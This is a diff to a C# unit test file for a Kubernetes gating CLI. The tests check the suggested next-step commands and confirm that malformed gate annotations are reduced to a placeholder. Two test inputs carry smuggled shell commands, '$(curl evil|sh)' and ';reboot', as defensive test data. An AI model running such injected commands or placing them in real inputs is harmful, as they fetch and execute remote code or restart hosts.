@@ -1,6 +1,8 @@
 using Sluice.Api.Gated;
 using Sluice.Api.Gates;
+using Sluice.Cli.Cluster;
 using Sluice.Cli.Explaining;
+using Sluice.Gating.Requirements;
 
 namespace Sluice.Cli.Tests.Explaining;
 
@@ -16,8 +18,10 @@ public sealed class NextStepsTests
 
     [Theory]
     [InlineData(null, "sluice open maintenance -n flux-system --override --reason TEXT")]
+    [InlineData("2m", "sluice open maintenance -n flux-system --override --reason TEXT")]
+    [InlineData("3m", "sluice open maintenance -n flux-system --override --reason TEXT")]
     [InlineData("1h", "sluice open maintenance -n flux-system --reason TEXT")]
-    public void A_gate_within_its_margin_and_without_a_window_for_requests_stays_open_by_an_override_alone(string? window, string command)
+    public void A_gate_within_its_margin_stays_open_by_an_override_alone_where_a_request_does_not_last_beyond_the_end(string? window, string command)
     {
         var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/maintenance"), (GatedAnnotations.HeldBy, "flux-system/maintenance (GateClosing)"));
         Sample.Explain(item, Sample.Closing with { Spec = new GateSpec { Window = window } }).Next[0].Command.Should().Be(command);
@@ -47,5 +51,46 @@ public sealed class NextStepsTests
     {
         var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/bypass"), (GatedAnnotations.Require, "oneof"), (GatedAnnotations.HeldBy, "oneof (InvalidReference)"));
         Sample.Explain(item, Sample.Opened("bypass")).Notes[0].Should().Be("It stays held until somebody corrects that.");
+    }
+
+    [Fact]
+    public void Nobody_has_to_correct_what_is_closed_or_what_the_reader_may_not_see()
+    {
+        var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/sre-approval,flux-system/gone"), (GatedAnnotations.HeldBy, "flux-system/sre-approval (GateClosed), flux-system/gone (GateNotFound)"));
+        Sample.Explain(item, Sample.Closed).Notes[0].Should().StartWith("It stays held until somebody opens what is closed");
+        var lookups = new Dictionary<GateReference, GateLookup> { [new("flux-system", "sre-approval")] = new(null, "you may not read this gate") };
+        new Explainer("sluice", Moment.Now).Explain(Sample.Kustomization, item, lookups).Notes.Should().NotContain(note => note.StartsWith("It stays held"));
+        Sample.Explain(item, Sample.Closed with { Status = null }).Notes.Should().NotContain(note => note.StartsWith("It stays held"), "nobody has looked at it yet");
+    }
+
+    [Theory]
+    [InlineData("gone,$(curl evil|sh)", "GATE")]
+    [InlineData("flux-system/sre-approval,;reboot", "flux-system/sre-approval,GATE")]
+    [InlineData("flux-system/sre-approval,", "flux-system/sre-approval,GATE")]
+    [InlineData("gone, lost,flux-system/sre-approval", "flux-system/sre-approval,GATE")]
+    [InlineData(" ", "GATE")]
+    public void What_the_annotation_names_wrongly_is_one_step_that_keeps_what_can_be_read_and_exists(string gates, string command)
+    {
+        var item = Sample.Object(true, (GatedAnnotations.Gates, gates), (GatedAnnotations.HeldBy, "(empty) (InvalidReference)"));
+        Sample.Explain(item, Sample.Opened("sre-approval")).Next.Where(step => step.Command.StartsWith("kubectl")).Should().ContainSingle()
+            .Which.Command.Should().Be($"kubectl annotate --overwrite -n apps kustomization/my-app gating.toolkit.fluxcd.io/gates={command}");
+    }
+
+    [Fact]
+    public void What_is_wrong_with_each_entry_is_said()
+    {
+        var item = Sample.Object(true, (GatedAnnotations.Gates, "gone,lost,,Not_A_Name"), (GatedAnnotations.HeldBy, "apps/gone (GateNotFound)"));
+        Sample.Explain(item).Next[0].Effect.Should().Be(
+            "name a gate that exists, or create 'apps/gone'; name a gate that exists, or create 'apps/lost'; name a gate where the list has none between its commas, or leave ',GATE' out; correct 'Not_A_Name'");
+    }
+
+    [Fact]
+    public void What_the_spec_names_wrongly_is_edited_there()
+    {
+        var item = Sample.Object(true, (GatedAnnotations.HeldBy, "apps/gone (GateNotFound)")) with { Spec = new FluxObjectSpec { Suspend = true, Gates = [new NamedGate { Name = "gone" }] } };
+        Sample.Explain(item).Next[0].Should().Be(new NextStep("kubectl edit -n apps kustomization/my-app", "in spec.gates, name a gate that exists, or create 'apps/gone'"));
+        item = item with { Metadata = item.Metadata with { Annotations = new Dictionary<string, string> { [GatedAnnotations.Gates] = "lost", [GatedAnnotations.HeldBy] = "apps/gone (GateNotFound)" } } };
+        Sample.Explain(item).Next.Select(step => step.Command).Should().StartWith(
+            ["kubectl annotate --overwrite -n apps kustomization/my-app gating.toolkit.fluxcd.io/gates=GATE", "kubectl edit -n apps kustomization/my-app"]);
     }
 }
